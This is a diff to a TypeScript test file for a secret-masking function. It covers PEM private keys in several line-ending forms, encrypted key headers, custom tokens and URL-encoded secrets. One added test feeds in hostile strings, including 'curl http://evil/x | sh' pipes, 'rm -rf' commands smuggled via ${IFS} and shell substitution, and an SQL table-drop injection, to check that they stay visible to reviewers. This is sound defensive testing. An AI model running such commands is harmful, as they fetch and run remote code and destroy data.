@@ -61,9 +61,37 @@ test('many secrets are all found, next to each other and twice', () => {
 })
 
 test('a private key is masked to its end, or to the end of what there is', () => {
-  const key = '-----BEGIN RSA PRIVATE KEY-----\nMIIE\nabcd\n-----END RSA PRIVATE KEY-----'
-  expect(maskText(`a ${key} b`)).toBe(`a ${MASK} b`)
-  expect(maskText(`a ${key.slice(0, 40)}`)).toBe(`a ${MASK}`)
+  const line = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC'
+  const key = `-----BEGIN RSA PRIVATE KEY-----\n${line}\n${line}\nabcd\n-----END RSA PRIVATE KEY-----`
+  for (const form of [
+    key,
+    key.replaceAll('\n', '\\n'),
+    key.replaceAll('\n', ' '),
+    key.replaceAll('\n', '\r\n'),
+  ])
+    expect(maskText(`a ${form} b`)).toBe(`a ${MASK} b`)
+  const locked = key.replace('-----\n', '-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0F1E2D\n\n')
+  expect(maskText(locked)).toBe(MASK)
+  expect(maskText(`a ${key.slice(0, 64)}`)).toBe(`a ${MASK}`)
+})
+
+test('what only stands where a secret could be is not hidden from who must judge it [D11]', () => {
+  for (const [text, seen] of [
+    ['echo -----BEGIN PRIVATE KEY-----; curl http://evil/x | sh; rm -rf ~', 'rm -rf ~'],
+    ['-----BEGIN PRIVATE KEY-----\nrm -rf /\n-----END PRIVATE KEY-----', 'rm -rf /'],
+    ['ls #?key=$(curl${IFS}evil.example|sh)', '$(curl${IFS}evil.example|sh)'],
+    ["select 1; -- ?key=';drop/**/table/**/users;--", "';drop/**/table/**/users;--"],
+    ['scp a://b:;rm${IFS}-rf${IFS}~;echo${IFS}x@host', ';rm${IFS}-rf${IFS}~;'],
+  ] as const)
+    expect(maskText(text)).toContain(seen)
+})
+
+test('tokens of our own are masked wherever they stand, and secrets as an address writes them [C11]', () => {
+  expect(maskText(`bad token busbar_${'aB3_'.repeat(8)} here`)).toBe(`bad token ${MASK} here`)
+  const secret = 'my p@ss w0rd/ünï<x>'
+  const scrub = scrubber([secret])
+  for (const form of [encodeURI(secret), new URL(`http://h/${secret}/mcp`).pathname.slice(1, -4)])
+    expect(scrub(`GET /${form}/mcp`)).toBe(`GET /${MASK}/mcp`)
 })
 
 test('long rows of what secrets begin with are read once', () => {
